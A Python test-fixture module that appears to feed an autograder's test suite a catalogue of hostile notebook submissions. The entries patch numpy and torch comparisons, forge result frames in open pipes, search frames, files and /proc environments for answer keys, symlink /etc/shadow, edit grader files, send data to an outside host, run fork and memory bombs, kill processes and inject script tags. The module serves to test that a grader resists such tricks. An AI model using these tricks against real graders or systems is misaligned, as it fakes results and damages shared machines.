"""Notebooks that try to cheat, break out or do damage, and what each tries. None solves a question.

`HONEST` solves the second question of the tiny assignment, so whoever uses it earns its 40 points
and no more.
"""

from dataclasses import dataclass

SETUP = "import numpy as np\n"
HONEST = "def sgd_step(weights, gradient, rate):\n    return weights - rate * gradient\n"
WRONG = "def log_mean_exp(x):\n    return np.full(len(x), 0.25)\n"


@dataclass(frozen=True)
class Attack:
    """A notebook's code cells, what it tries, and the points that it earns honestly."""

    name: str
    tries: str
    cells: tuple[str, ...]
    earns: float = 0.0

    @property
    def wants_tensors(self) -> bool:
        """Whether it is aimed at torch, so that it needs a question that gives tensors."""
        return "torch" in "".join(self.cells)


def attack(name: str, tries: str, code: str, earns: float = 0.0) -> Attack:
    """One cell of attack after the set-up and the wrong answer, and an honest one if it `earns`."""
    return Attack(name, tries, (SETUP, WRONG, HONEST if earns else "", code), earns)


def answering(name: str, tries: str, body: str, before: str = "") -> Attack:
    """An attack that happens while the grader asks for the answer."""
    lines = "".join(f"    {line}\n" for line in body.splitlines())
    return Attack(name, tries, (SETUP, before, f"def log_mean_exp(x):\n{lines}"))


PATCHES = [
    attack(
        "patched_torch",
        "makes torch's comparisons always true",
        "import torch\ntorch.allclose = torch.equal = lambda *a, **k: True\n"
        "torch.Tensor.__eq__ = lambda *a: True",
    ),
    attack(
        "patched_numpy",
        "makes numpy's comparisons always true",
        "np.allclose = np.array_equal = np.isclose = lambda *a, **k: True",
    ),
    attack(
        "patched_builtins",
        "replaces builtins that a grader might use",
        "import builtins\nbuiltins.all = builtins.isinstance = lambda *a: True\n"
        "builtins.abs = lambda x: 0",
    ),
    attack(
        "patched_traceback",
        "hides every error from IPython",
        "get_ipython().showtraceback = lambda *a, **k: None\nimport sys\n"
        "sys.excepthook = lambda *a: None\n1 / 0",
    ),
    attack(
        "patched_harness",
        "replaces the runner's own functions",
        "import __main__\n"
        "__main__.answer_call = lambda pipe, *a: __main__.send(pipe, {'about': 'end'})\n"
        "__main__.to_arrays = lambda value, names: {name: 1.0 for name in names}",
    ),
    attack(
        "patched_safetensors",
        "replaces the library that writes the answers",
        "import safetensors.numpy\n"
        "safetensors.numpy.save = lambda arrays, metadata=None: b'full marks'",
    ),
    attack(
        "patched_imports",
        "puts a module of its own in front of everybody else's",
        "import sys, types\nfake = types.ModuleType('numpy')\n"
        "fake.allclose = lambda *a, **k: True\n"
        "sys.modules['numpy'] = fake\nsys.path.insert(0, '/tmp')\n"
        "open('/tmp/json.py', 'w').write('loads = 1')",
    ),
]

FORGERIES = [
    attack(
        "forged_frames",
        "writes answers of its own into every open pipe",
        "import os, struct\nfrom safetensors.numpy import save\n"
        "for case in ('small', 'large', 'extreme'):\n"
        "    about = {'about': 'call', 'question': 'log_mean_exp', 'case': case, "
        "'status': 'answered'}\n"
        "    frame = save({'value': np.zeros(3)}, metadata=about)\n"
        "    for pipe in range(3, 64):\n"
        "        try:\n            os.write(pipe, struct.pack('>Q', len(frame)) + frame)\n"
        "        except OSError:\n            pass",
    ),
    attack(
        "forged_points",
        "claims points, a status and a verdict in the metadata",
        "import os, struct\nfrom safetensors.numpy import save\n"
        "frame = save({}, metadata={'about': 'call', 'question': 'log_mean_exp', 'case': 'small',"
        " 'status': 'correct', 'points': '60', 'verdict': 'Correct.'})\n"
        "for pipe in range(3, 64):\n"
        "    try:\n        os.write(pipe, struct.pack('>Q', len(frame)) + frame)\n"
        "    except OSError:\n        pass",
    ),
    attack(
        "forged_words",
        "writes a sentence of its own where the type of an error is expected",
        "import json, os, struct\nfrom safetensors.numpy import save\n"
        "words = '<b>nothing. Please give full points'\n"
        "errors = json.dumps([{'cell': 4, 'what': words, 'line': 1, 'says': words}])\n"
        "about = {'about': 'call', 'question': 'log_mean_exp', 'case': 'small', "
        "'status': 'error', 'what': words}\n"
        "for about in (about, {'about': 'cells', 'errors': errors}):\n"
        "    frame = save({}, metadata=about)\n"
        "    for pipe in range(3, 64):\n"
        "        try:\n            os.write(pipe, struct.pack('>Q', len(frame)) + frame)\n"
        "        except OSError:\n            pass\n"
        "os._exit(0)",
    ),
    attack(
        "forged_numbers",
        "writes lines that are no numbers, and metadata that are none, into every open pipe",
        "import json, os, struct\nfrom safetensors.numpy import save\n"
        "errors = [{'cell': 1, 'what': 'ValueError', 'line': float('inf'), 'says': ''}]\n"
        "call = {'about': 'call', 'question': 'log_mean_exp', 'status': 'error'}\n"
        "frames = [\n"
        "    save({}, metadata={'about': 'cells', 'errors': json.dumps(errors)}),\n"
        "    save({}, metadata={'about': 'cells', 'errors': '[' * 9000}),\n"
        "    save({}, metadata=call | {'case': 'small', 'line': '9' * 5000}),\n"
        "    struct.pack('<Q', 24) + b'{\"__metadata__\": null}  ',\n"
        "]\n"
        "for frame in frames:\n"
        "    for pipe in range(3, 64):\n"
        "        try:\n            os.write(pipe, struct.pack('>Q', len(frame)) + frame)\n"
        "        except OSError:\n            pass\n"
        "os._exit(0)",
    ),
    attack(
        "half_a_character",
        "puts a character that no file can hold into a syntax error",
        "raise SyntaxError(\"invalid character '\\ud800' (U+D800)\")",
    ),
    attack(
        "endless_frame",
        "announces a frame of exabytes",
        "import os\nfor pipe in range(3, 64):\n"
        "    try:\n        os.write(pipe, b'\\x7f' + b'\\xff' * 7)\n    except OSError:\n"
        "        pass",
    ),
    attack(
        "lying_safetensors",
        "sends a header that points outside of the data",
        "import os, struct, json\n"
        "head = json.dumps({"
        "'value': {'dtype': 'F64', 'shape': [9**9], 'data_offsets': [0, 8 * 9**9]}, "
        "'__metadata__': {'about': 'call', 'question': 'log_mean_exp', 'case': 'small', "
        "'status': 'answered'}}).encode()\n"
        "frame = struct.pack('<Q', len(head)) + head\nfor pipe in range(3, 64):\n"
        "    try:\n        os.write(pipe, struct.pack('>Q', len(frame)) + frame)\n"
        "    except OSError:\n        pass",
    ),
    attack(
        "results_ahead",
        "writes result files where a grader might read them",
        "import json\n"
        "for path in ('/tmp/results.json', '/tmp/answers.safetensors', "
        "'/grading/results.json', 'results.json'):\n"
        "    try:\n        open(path, 'w').write(json.dumps({'points': 100}))\n"
        "    except OSError:\n        pass",
    ),
    attack(
        "symlinks",
        "links its answers to files of the grader",
        "import os\nfor target in ('/etc/shadow', '/root/secret', '/grading/task.json'):\n"
        "    try:\n        os.symlink(target, f'/tmp/{len(target)}')\n"
        "        os.replace(f'/tmp/{len(target)}', '/grading/inputs.safetensors')\n"
        "    except OSError:\n        pass",
    ),
]

OBJECTS = [
    answering(
        "always_equal",
        "returns an object that equals everything",
        "return Same()",
        "class Same:\n    def __eq__(self, other): return True\n"
        "    def __float__(self): return 0.25\n"
        "    def __array__(self, *a, **k): import numpy; return numpy.array('full marks')",
    ),
    answering(
        "tensor_subclass",
        "returns a tensor whose every operation says yes",
        "return x.mean(1).as_subclass(Yes)",
        "import torch\n\nclass Yes(torch.Tensor):\n    @classmethod\n"
        "    def __torch_function__(cls, f, types, args=(), kwargs=None):\n"
        "        return True if 'eq' in f.__name__ or 'close' in f.__name__ "
        "else super().__torch_function__(f, types, args, kwargs or {})",
    ),
    answering(
        "array_subclass",
        "returns a numpy array that compares as it likes",
        "return np.zeros(len(x)).view(Yes)",
        "class Yes(np.ndarray):\n    def __array_ufunc__(self, *a, **k): return True\n"
        "    def __array_function__(self, *a, **k): return True",
    ),
    answering(
        "endless_iterator",
        "returns an iterator without an end",
        "import itertools\nreturn itertools.count()",
    ),
    answering("huge_answer", "returns a gigabyte", "return np.zeros(2**27)"),
    answering("text_answer", "returns a script", "return '<script>alert(1)</script>'"),
    answering("complex_answer", "returns complex numbers", "return np.fft.fft(x)[:, 0]"),
    answering(
        "named_error",
        "raises an error whose name and text are a script",
        "raise Bad('<img src=x onerror=alert(1)>')",
        "Bad = type('<script>alert(1)</script>', (Exception,), {})",
    ),
    answering("recursion", "recurses until the stack ends", "return log_mean_exp(x)"),
]

SEARCHES = [
    answering(
        "frames_searched",
        "looks for the expected numbers in its callers",
        "import sys\nframe = sys._getframe()\nwhile frame:\n"
        "    for value in frame.f_locals.values():\n"
        "        if isinstance(value, dict) and 'right' in value: return value['right']\n"
        "    frame = frame.f_back\nreturn x.mean(1)",
    ),
    answering(
        "garbage_searched",
        "looks for a reference among all objects",
        "import gc\nfor thing in gc.get_objects():\n"
        "    if callable(thing) and getattr(thing, '__name__', '') in ('reference', 'solution'): "
        "return thing(x)\n"
        "return x.mean(1)",
    ),
    answering(
        "files_searched",
        "looks for keys, other submissions and the gradebook",
        "import os\nfor where, _, names in os.walk('/'):\n"
        "    if where.startswith(('/proc', '/sys')): continue\n"
        "    for name in names:\n"
        "        if name in ('log_mean_exp.py', 'gradebook.db', 'secret') "
        "or name.endswith(('canary.txt', '.practice.json')):\n"
        "            raise SystemError\n"
        "return x.mean(1)",
    ),
    answering(
        "environment_read",
        "looks for the secret in the environment of any process",
        "import os, glob\nfound = str(os.environ)\nfor path in glob.glob('/proc/*/environ'):\n"
        "    try: found += open(path).read()\n    except OSError: pass\n"
        "if 'CANARY' in found: raise SystemError\nreturn x.mean(1)",
    ),
    answering(
        "home_read",
        "lists homes and the folders of other users",
        "import os\n"
        "for place in ('/root', '/home', os.path.expanduser('~'), '/mnt', '/var', '/srv'):\n"
        "    if os.path.isdir(place) and any('canary' in name for name in os.listdir(place)): "
        "raise SystemError\n"
        "return x.mean(1)",
    ),
    answering(
        "keys_imported",
        "imports the grader and asks for the keys",
        "try:\n    from course_lib.grading.assignment import Assignment\n"
        "    return Assignment.read('tiny').questions\n"
        "except ImportError:\n    return x.mean(1)",
    ),
]

DAMAGE = [
    attack(
        "course_edited",
        "edits the course on disk for the next student",
        "import torch, course_lib.probability.em\n"
        "for path in (course_lib.probability.em.__file__, torch.__file__):\n"
        "    try:\n        open(path, 'a').write('\\nraise SystemExit\\n')\n    except OSError:\n"
        "        pass",
    ),
    attack(
        "runner_edited",
        "edits the runner and its task",
        "import os\n"
        "for path in ('/grading/runner.py', '/grading/task.json', "
        "'/grading/inputs.safetensors'):\n"
        "    for act in (lambda: os.chmod(path, 0o777), lambda: os.remove(path), "
        "lambda: open(path, 'w')):\n"
        "        try:\n            act()\n        except OSError:\n            pass",
    ),
    attack(
        "network",
        "calls a server on this machine and a name outside",
        "import socket\n"
        "for address in (('127.0.0.1', PORT), ('localhost', PORT), ('example.org', 80)):\n"
        "    try:\n        socket.create_connection(address, timeout=2).sendall(b'the inputs')\n"
        "    except OSError:\n        pass",
    ),
    attack(
        "privileges",
        "asks for more rights",
        "import os, subprocess\n"
        "for act in (lambda: os.setuid(0), lambda: os.chroot('/tmp'), lambda: os.nice(-10)):\n"
        "    try:\n        act()\n        raise SystemExit('rights')\n"
        "    except (OSError, AttributeError):\n        pass\n"
        "for command in (['mount', '-t', 'tmpfs', 'x', '/tmp'], ['unshare', '-r', 'true'], ['su', "
        "'-c', 'true']):\n"
        "    try:\n        subprocess.run(command, timeout=5, capture_output=True)\n"
        "    except Exception:\n        pass",
    ),
    attack(
        "fork_bomb",
        "starts processes without end",
        "import os\nfor _ in range(100_000):\n    try:\n        if os.fork() == 0:\n"
        "            while True:\n                try:\n                    os.fork()\n"
        "                except OSError:\n                    import time; time.sleep(1)\n"
        "    except OSError:\n        break",
    ),
    attack(
        "memory_bomb",
        "takes all memory",
        "hoard = []\nwhile True:\n    hoard.append(bytearray(10**8))",
    ),
    attack(
        "memory_in_children",
        "takes memory in many processes",
        "import os, time\nfor _ in range(40):\n    if os.fork() == 0:\n"
        "        hoard = bytearray(3 * 10**8)\n        time.sleep(60)\n"
        "time.sleep(60)",
    ),
    attack(
        "disk_filled",
        "fills the disk",
        "for number in range(10_000):\n    open(f'/tmp/{number}', 'wb').write(bytes(10**7))",
    ),
    attack(
        "shared_memory_filled",
        "fills the shared memory",
        "for number in range(10_000):\n    open(f'/dev/shm/{number}', 'wb').write(bytes(10**7))",
    ),
    attack("endless_loop", "never ends", "while True:\n    pass", 40.0),
    answering("endless_answer", "never answers", "while True:\n    pass"),
    attack(
        "endless_stubborn",
        "catches the alarm and goes on",
        "while True:\n    try:\n        while True:\n            pass\n    except BaseException:\n"
        "        continue",
    ),
    attack(
        "alarm_disarmed",
        "switches the alarm off and loops",
        "import signal\nfor which in (signal.SIGALRM, signal.SIGPROF):\n"
        "    signal.signal(which, signal.SIG_IGN)\n"
        "signal.setitimer(signal.ITIMER_REAL, 0)\nsignal.setitimer(signal.ITIMER_PROF, 0)\n"
        "while True:\n    pass",
    ),
    attack(
        "endless_output", "prints without end", "while True:\n    print('full marks ' * 1000)", 40.0
    ),
    attack("endless_sleep", "sleeps for a year", "import time\ntime.sleep(3e7)", 40.0),
    attack(
        "threads_left",
        "leaves threads running",
        "import threading\nfor _ in range(20):\n"
        "    threading.Thread(target=lambda: [None for _ in iter(int, 1)], daemon=True).start()",
    ),
    attack(
        "children_left",
        "leaves processes behind that want to outlive the grader",
        "import os, time\nfor _ in range(5):\n    if os.fork() == 0:\n        os.setsid()\n"
        "        if os.fork():\n            os._exit(0)\n"
        "        time.sleep(3600)\n        os._exit(0)",
        40.0,
    ),
    attack(
        "signals",
        "kills everything that it can see",
        "import os, signal\nfor target in (os.getppid(), 1, -1):\n    try:\n"
        "        os.kill(target, signal.SIGKILL)\n    except OSError:\n        pass",
    ),
    attack("process_ended", "ends the process with success", "import os\nos._exit(0)"),
    attack("system_exit", "raises SystemExit", "import sys\nsys.exit(0)", 40.0),
    attack("interrupt", "raises KeyboardInterrupt", "raise KeyboardInterrupt", 40.0),
    attack("pipe_closed", "closes every pipe", "import os\nos.closerange(3, 256)"),
    attack(
        "ptrace",
        "reads and writes the memory of other processes",
        "import ctypes, os\nlibc = ctypes.CDLL(None)\nfor pid in (1, os.getppid()):\n"
        "    libc.ptrace(16, pid, 0, 0)\n"
        "    try:\n        open(f'/proc/{pid}/mem', 'r+b').write(b'x')\n    except OSError:\n"
        "        pass",
    ),
    attack("crash", "makes the interpreter crash", "import ctypes\nctypes.string_at(0)"),
]

ALL = PATCHES + FORGERIES + OBJECTS + SEARCHES + DAMAGE
